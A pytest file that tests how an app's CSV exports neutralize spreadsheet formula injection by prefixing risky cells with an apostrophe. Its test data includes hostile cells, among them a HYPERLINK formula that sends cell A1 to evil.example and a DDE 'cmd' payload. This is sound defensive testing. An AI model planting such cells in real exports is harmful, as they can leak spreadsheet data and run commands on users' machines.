"""Hostile input 38 of docs/security.md: cells that a spreadsheet would run."""

import asyncio
import csv
import io

import pytest

from api.browse.app import make_datasette
from api.browse.spreadsheets import safe_cell, with_safe_cells
from tests.crawl_world import night, typed
from tests.server import rss, serve


@pytest.mark.hostile(38)
@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),
        ("+1.5e-07", "+1.5e-07"),
        ("-", "'-"),
        ("gold = up", "gold = up"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(cell, expected):
    assert safe_cell(cell) == expected


FORMULAS = ['=HYPERLINK("http://evil.example?x="&A1,"open")', "@SUM(1)", "+1\n=2", "-cmd", "-0.5"]


@pytest.mark.hostile(38)
@pytest.mark.parametrize(
    "address",
    [
        "/tapestory/documents.csv?_size=max",
        "/tapestory/documents.csv?_stream=on&_dl=1",
        "/tapestory.csv?sql=select+title,author,text+from+documents",
    ],
)
def test_no_csv_of_the_pages_holds_a_formula(store, address):
    with store.transaction():
        for number, cell in enumerate(FORMULAS):
            store.db.execute(
                "INSERT INTO sources (id, kind, name, url, weight) VALUES (?, 'feed', ?, 'u', 1)",
                [f"s{number}", cell],
            )
    items = [(f"g{n}", "t", "x") for n in range(len(FORMULAS))]
    with serve({"/feed": typed(rss(*items))}) as server:
        night(store, server)
    with store.transaction():
        for number, cell in enumerate(FORMULAS):
            store.db.execute(
                "UPDATE documents SET title = ?, author = ? WHERE guid = ?",
                [cell, cell, f"g{number}"],
            )
    datasette = make_datasette(store.path)
    answer = asyncio.run(datasette.client.get(address))
    assert answer.status_code == 200
    assert answer.headers["x-content-type-options"] == "nosniff"
    cells = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    expected = {*(f"'{cell}" for cell in FORMULAS[:4]), "-0.5"}
    assert {row["title"] for row in cells} == expected
    assert {row["author"] for row in cells} == expected
    # JSON is for programs, and stays as it is.
    plain = asyncio.run(datasette.client.get("/tapestory/documents.json?_shape=array&_size=max"))
    assert {row["title"] for row in plain.json()} == set(FORMULAS)


@pytest.mark.hostile(38)
@pytest.mark.parametrize(
    "address", ["/tapestory/documents?_format=csv", "/tapestory?sql=select+1&_format=csv"]
)
def test_nothing_but_a_path_asks_for_csv(store, address):
    answer = asyncio.run(make_datasette(store.path).client.get(address))
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/html")


@pytest.mark.hostile(38)
def test_a_row_cut_anywhere_on_its_way_is_put_together_again():
    async def app(scope, receive, send):
        headers = [(b"content-type", b"text/csv"), (b"Content-Length", b"9")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        for byte in 'a,b\r\n"=1\r\n2","é"\r\n-3,+x\r\n'.encode():
            await send({"type": "http.response.body", "body": bytes([byte]), "more_body": True})
        await send({"type": "http.response.body", "body": b""})

    sent = []

    async def send(message):
        sent.append(message)

    async def go():
        await with_safe_cells(app)({"type": "http", "path": "/x.csv"}, None, send)

    asyncio.run(go())
    assert sent[0]["headers"] == [(b"content-type", b"text/csv")]
    body = b"".join(message["body"] for message in sent[1:]).decode()
    assert list(csv.reader(io.StringIO(body, newline=""))) == [
        ["a", "b"],
        ["'=1\r\n2", "é"],
        ["-3", "'+x"],
    ]
